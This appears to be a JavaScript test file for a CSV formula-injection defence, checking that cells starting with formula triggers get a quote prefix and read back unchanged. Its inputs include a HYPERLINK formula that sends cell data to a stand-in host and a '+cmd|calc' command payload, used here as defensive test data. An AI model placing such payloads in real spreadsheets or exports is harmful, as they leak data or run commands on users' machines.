import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { isFormulaLike, neutralizeCsvCell, restoreCsvCell } from './csv-formula.js';
import { generateTemporaryPassword } from './password-policy.js';

describe('CSV formula neutralization', () => {
  it('prefixes a quote to text starting with = + - @ tab or carriage return, and to nothing else', () => {
    assert.equal(neutralizeCsvCell('=HYPERLINK("http://x.example/?"&A1,"click")'), `'=HYPERLINK("http://x.example/?"&A1,"click")`);
    assert.equal(neutralizeCsvCell('+cmd|calc'), "'+cmd|calc");
    assert.equal(neutralizeCsvCell('@SUM(1+1)'), "'@SUM(1+1)");
    assert.equal(neutralizeCsvCell('-2+3'), "'-2+3");
    assert.equal(neutralizeCsvCell('\t=1'), "'\t=1");
    assert.equal(neutralizeCsvCell('\r=1'), "'\r=1");
    for (const plain of ['Ada Lovelace', '', ' =1', 'a=1', "'", "''", "'Ada", '1+1', '"=1"']) assert.equal(neutralizeCsvCell(plain), plain, plain);
  });

  it('adds one more quote to text that already starts with quotes before a trigger, so it reads back', () => {
    assert.equal(neutralizeCsvCell("'=1+1"), "''=1+1");
    assert.equal(restoreCsvCell("''=1+1"), "'=1+1");
    assert.equal(restoreCsvCell("'=1+1"), '=1+1');
    assert.equal(restoreCsvCell("'Ada"), "'Ada");
    assert.equal(restoreCsvCell('=1+1'), '=1+1', 'a formula nobody neutralized stays as it was');
  });

  it('reads back every text it writes, and writes none that starts with a trigger', () => {
    const text = fc.oneof(fc.string(), fc.tuple(fc.constantFrom("'", "''", '=', '+', '-', '@', '\t', '\r', ''), fc.string()).map(([a, b]) => a + b));
    fc.assert(fc.property(text, (s) => restoreCsvCell(neutralizeCsvCell(s)) === s));
    // And what it writes never starts with a trigger itself.
    fc.assert(fc.property(text, (s) => !['=', '+', '-', '@', '\t', '\r'].includes(neutralizeCsvCell(s).charAt(0))));
  });

  it('never starts a generated temporary password with a formula trigger', () => {
    for (let i = 0; i < 2000; i++) assert.equal(isFormulaLike(generateTemporaryPassword()), false);
  });
});
